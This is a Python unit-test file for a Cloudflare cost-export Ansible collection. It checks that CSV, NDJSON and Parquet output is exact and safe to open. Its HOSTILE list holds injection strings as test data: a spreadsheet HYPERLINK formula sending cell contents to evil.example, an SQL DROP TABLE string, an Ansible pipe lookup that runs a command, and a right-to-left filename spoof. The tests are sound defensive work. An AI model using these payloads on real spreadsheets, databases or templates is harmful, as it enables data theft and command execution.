# Copyright (c) 2026, The finops.cloudflare contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""What each format writes is what other programs read."""

from __future__ import annotations

import csv
import importlib
import io
import json
from collections.abc import Iterable
from datetime import datetime
from decimal import Context, Decimal
from pathlib import Path
from typing import Any

import duckdb
import pyarrow.parquet
import pytest

from ansible_collections.finops.cloudflare.plugins.module_utils._columns import COSTS
from ansible_collections.finops.cloudflare.plugins.module_utils._errors import MissingLibraryError
from ansible_collections.finops.cloudflare.plugins.module_utils._export.errors import ExportError
from ansible_collections.finops.cloudflare.plugins.module_utils._export.focus import (
    DATASET_COLUMNS,
    NUMBERS,
    QUANTITIES,
    TIMES,
    UNIT_PRICES,
    Mapper,
)
from ansible_collections.finops.cloudflare.plugins.module_utils._export.formats import format_parquet
from ansible_collections.finops.cloudflare.plugins.module_utils._export.formats.format_csv import Csv
from ansible_collections.finops.cloudflare.plugins.module_utils._export.formats.format_ndjson import Ndjson
from ansible_collections.finops.cloudflare.plugins.module_utils._export.formats.format_parquet import (
    Parquet,
    decimal_type,
)
from ansible_collections.finops.cloudflare.plugins.module_utils._export.formats.registry import FORMATS
from ansible_collections.finops.cloudflare.tests.unit.plugins.module_utils.usage_factories import Record, record

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",
    "\t=1+1",
    '"; DROP TABLE usage; --',
    "a,b;c|d",
    "two\nlines",
    "carriage\rreturn\r\n",
    "escape \x1b[31m red \x07",
    "nul \x00 byte",
    "\u202egnp.exe",
    "\U0001f469\u200d\U0001f4bb",
    "non\u00a0breaking",
    "null",
    "NA",
    "NaN",
    "''",
    " lead and trail ",
    "%s %d {0} {{ lookup('pipe', 'id') }}",
    "Soci\u00e9t\u00e9 \u682a\u5f0f\u4f1a\u793e",
    "0123456789",
]


def lines(fmt: Any, records: Iterable[Record]) -> list[bytes]:
    mapper = Mapper(fmt.encode, fmt.null, fmt.number)
    return [fmt.line(mapper.row(each)).encode("utf-8", "replace") for each in records]


def write(fmt: Any, path: Path, records: Iterable[Record]) -> Path:
    fmt.write(path, lines(fmt, records))
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def hostile(text: str) -> Record:
    return record("2025-05-01", Decimal("-0.5"), BillingAccountName=text, x_ZoneName=text, Tags={text: text})


@pytest.mark.parametrize("text", HOSTILE)
def test_formats_csv_is_safe_to_open(tmp_path: Path, text: str) -> None:
    path = write(Csv(), tmp_path / "usage.csv", [hostile(text), record("2025-05-02")])
    raw = path.read_bytes()
    assert raw.count(b"\n") == 3  # so that programs that work on lines can read it too
    assert not [byte for byte in raw if byte < 32 and byte != 10]
    row, after = read_csv(path)
    assert list(row) == list(DATASET_COLUMNS)
    assert row["ConsumedQuantity"] == "-0.5"  # a number is no formula
    for value in (row["BillingAccountName"], row["x_ZoneName"], row["Tags"]):
        assert not value.lstrip().startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))
        assert "\u202e" not in value
    assert after["BillingAccountName"] == "Production"


@pytest.mark.parametrize(
    "text", ['O\'Hara & Söhne, "Ltd"', "株式会社", "a=b", "x-y", " spaced  out ", "non\u00a0breaking"]
)
def test_formats_csv_leaves_harmless_text_as_it_is(tmp_path: Path, text: str) -> None:
    [row] = read_csv(write(Csv(), tmp_path / "usage.csv", [hostile(text)]))
    assert row["BillingAccountName"] == text


@pytest.mark.parametrize("text", HOSTILE)
def test_formats_ndjson_keeps_every_text(tmp_path: Path, text: str) -> None:
    path = write(Ndjson(), tmp_path / "usage.ndjson", [hostile(text), record("2025-05-02")])
    assert path.read_bytes().isascii()
    assert not [byte for byte in path.read_bytes() if byte < 32 and byte != 10]
    row, after = map(json.loads, path.read_text(encoding="ascii").splitlines())
    assert list(row) == list(DATASET_COLUMNS)
    assert row["BillingAccountName"] == text
    assert json.loads(row["Tags"]) == {text: text}
    assert (row["ConsumedQuantity"], row["BilledCost"], after["ConsumedQuantity"]) == (-0.5, None, 1)


@pytest.mark.parametrize("text", HOSTILE)
def test_formats_parquet_keeps_every_text(tmp_path: Path, text: str) -> None:
    path = write(Parquet(), tmp_path / "usage.parquet", [hostile(text), record("2025-05-02")])
    row, after = pyarrow.parquet.read_table(path).to_pylist()
    assert list(row) == list(DATASET_COLUMNS)
    assert row["BillingAccountName"] == text
    assert json.loads(row["Tags"]) == {text: text}
    assert (row["ConsumedQuantity"], row["BilledCost"]) == (Decimal("-0.5"), None)
    assert (row["ChargePeriodStart"], after["x_ZoneName"]) == (datetime.fromisoformat("2025-05-01"), None)


def test_format_the_three_formats_hold_the_same(tmp_path: Path) -> None:
    records = [
        record("2025-05-01", Decimal("1E-7"), BilledCost="0.10", ListUnitPrice=Decimal("2.50")),
        record("2025-05-02", 10**12, RegionName="", Tags={"env": True}),
    ]
    rows = read_csv(write(Csv(), tmp_path / "usage.csv", records))
    objects = [
        json.loads(line, parse_float=Decimal)
        for line in write(Ndjson(), tmp_path / "usage.ndjson", records).read_text(encoding="ascii").splitlines()
    ]
    table = pyarrow.parquet.read_table(write(Parquet(), tmp_path / "usage.parquet", records)).to_pylist()
    for row, each, stored in zip(rows, objects, table, strict=True):
        for column in DATASET_COLUMNS:
            value = stored[column]
            if column in NUMBERS:
                assert each[column] == value == (Decimal(row[column]) if row[column] else None)
            elif column in TIMES:
                assert each[column] == (row[column] or None) == (f"{value:%Y-%m-%dT%H:%M:%SZ}" if value else None)
            else:
                assert each[column] == value == (row[column] or None)


def test_formats_parquet_has_the_same_types_whatever_is_in_it(tmp_path: Path) -> None:
    paths = [
        write(Parquet(), tmp_path / "bare.parquet", [record("2025-05-01")]),
        write(Parquet(), tmp_path / "full.parquet", [record("2025-05-01", BilledCost=1, Tags={"a": "b"})]),
    ]
    bare, full = (pyarrow.parquet.read_schema(path) for path in paths)
    assert bare.equals(full, check_metadata=True)
    assert bare.metadata[b"FocusVersion"] == b"1.3"
    assert {str(bare.field(column).type) for column in QUANTITIES} == {"decimal128(22, 9)"}
    assert {str(bare.field(column).type) for column in UNIT_PRICES} == {"decimal128(15, 12)"}
    assert {str(bare.field(column).type) for column in COSTS} == {"decimal128(38, 18)"}
    assert {str(bare.field(column).type) for column in TIMES} == {"timestamp[us]"}


@pytest.mark.parametrize(
    ("value", "column", "written"),
    [
        (Decimal("0.1234567890123456785"), "BilledCost", "0.123456789012345678"),
        (Decimal("0.1234567890123456795"), "BilledCost", "0.123456789012345680"),
        (Decimal("1E-25"), "BilledCost", "0.000000000000000000"),
        (Decimal("12345678901234567890.5"), "BilledCost", "12345678901234567890.5"),
        (Decimal("0.1234567885"), "ConsumedQuantity", "0.123456788"),
        (Decimal("9999999999999.999999999"), "PricingQuantity", "9999999999999.999999999"),
        (Decimal("0.0000000000005"), "ListUnitPrice", "0.000000000000"),
        (Decimal("999.000000000045"), "ContractedUnitPrice", "999.000000000045"),
        ("2.5", "ConsumedQuantity", "2.5"),
        ("nothing", "ConsumedQuantity", None),
    ],
)
def test_formats_parquet_numbers_are_exact_to_the_last_place_of_their_column(
    value: Any, column: str, written: str | None
) -> None:
    assert Parquet().number(value, column) == written


@pytest.mark.parametrize(
    ("value", "column"), [(10**20, "BilledCost"), (10**13, "ConsumedQuantity"), (1000, "ListUnitPrice")]
)
def test_formats_parquet_number_that_does_not_fit_is_refused(value: int, column: str) -> None:
    with pytest.raises(ExportError, match=f"{column}: {value} is too large .* use csv or ndjson"):
        Parquet().number(value, column)


def test_formats_parquet_number_that_is_rounded_up_to_what_does_not_fit_is_refused() -> None:
    with pytest.raises(ExportError, match=r"10000000000000\.000000000 is too large"):
        Parquet().number(Decimal("9999999999999.9999999999"), "ConsumedQuantity")


def test_formats_parquet_quantity_times_price_is_exact_in_sql(tmp_path: Path) -> None:
    largest = Decimal("9999999999999.999999999"), Decimal("999.999999999999")
    numbers = [largest, (Decimal("0.000000001"), Decimal("0.000000000001")), (Decimal(410_000), Decimal("3E-7"))]
    records = [
        record("2025-05-01", quantity, PricingQuantity=quantity, ListUnitPrice=price, SkuId="sku")
        for quantity, price in [*numbers, *(((Decimal(1) / 3).quantize(Decimal("1E-9")), Decimal("2E-12")),) * 100]
    ]
    path = write(Parquet(), tmp_path / "usage.parquet", records)
    exact = Context(prec=100)
    wanted = Decimal(0)
    for each in records:
        wanted = exact.add(wanted, exact.multiply(each["PricingQuantity"], each["ListUnitPrice"]))
    for quantity in QUANTITIES:
        rows = duckdb.execute(f"SELECT sum({quantity} * ListUnitPrice) FROM '{path}'").fetchall()
        assert rows == [(wanted,)]
    # What Spark makes of the product: https://spark.apache.org/docs/3.5.0/sql-ref-ansi-compliance.html
    (quantity_digits, quantity_places), (price_digits, price_places) = map(
        decimal_type, (QUANTITIES[0], UNIT_PRICES[0])
    )
    assert quantity_digits + price_digits + 1 <= 38
    assert quantity_places + price_places <= 38


def test_format_large_answers_become_row_groups(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(format_parquet, "ROWS_AT_ONCE", 40)
    monkeypatch.setattr(format_parquet, "_PARSED_AT_ONCE", 8000)
    records = [record("2025-05-01", number, ChargeDescription="x" * (number % 50)) for number in range(150)]
    path = write(Parquet(), tmp_path / "usage.parquet", records)
    file = pyarrow.parquet.ParquetFile(path)
    assert file.num_row_groups > 2
    assert [int(each) for each in file.read().column("ConsumedQuantity").to_pylist()] == list(range(150))
    file.close()


def test_format_batches_are_gathered_to_the_last() -> None:
    assert list(format_parquet._gathered([])) == []
    assert list(format_parquet._gathered([[1], [2, 3]])) == [[[1], [2, 3]]]


def test_format_a_row_beyond_all_measure_is_refused_in_words(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(format_parquet, "_PARSED_AT_ONCE", 1000)
    records = [record("2025-05-01", ChargeDescription="x" * 5000), record("2025-05-02")]
    with pytest.raises(ExportError, match="can't be written as Parquet"):
        write(Parquet(), tmp_path / "usage.parquet", records)


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_format_an_older_file_tells_the_days_of_its_rows(tmp_path: Path, name: str) -> None:
    fmt = FORMATS[name]()
    path = write(fmt, tmp_path / "usage", [record("2025-05-01"), record("2025-05-03"), record("2025-05-03")])
    assert list(fmt.days(path)) == ["2025-05-01", "2025-05-03", "2025-05-03"]


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_format_the_same_rows_are_the_same_bytes(tmp_path: Path, name: str) -> None:
    records = [hostile(text) for text in HOSTILE]
    rows = lines(FORMATS[name](), records)
    FORMATS[name]().write(tmp_path / "one", rows)
    FORMATS[name]().write(tmp_path / "two", [b"".join(rows)])  # as little as how they come matters
    assert (tmp_path / "one").read_bytes() == (tmp_path / "two").read_bytes()


def test_format_a_library_that_is_missing_is_named(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(name: str) -> None:
        raise ImportError(f"No module named {name!r}")

    monkeypatch.setattr(importlib, "import_module", refuse)
    Csv()
    Ndjson()
    with pytest.raises(MissingLibraryError, match="pyarrow") as caught:
        Parquet()
    assert "No module named 'pyarrow'" in caught.value.traceback


def test_format_a_stream_of_blocks_reads_like_a_file() -> None:
    blocks = [b"ab", b"cdefg", b"h"]
    assert io.BufferedReader(format_parquet._Stream(blocks), 4).read() == b"abcdefgh"
    stream = format_parquet._Stream(iter(blocks))
    assert [stream.read(3), stream.read(3), stream.read(3)] == [b"ab", b"cde", b"fg"]
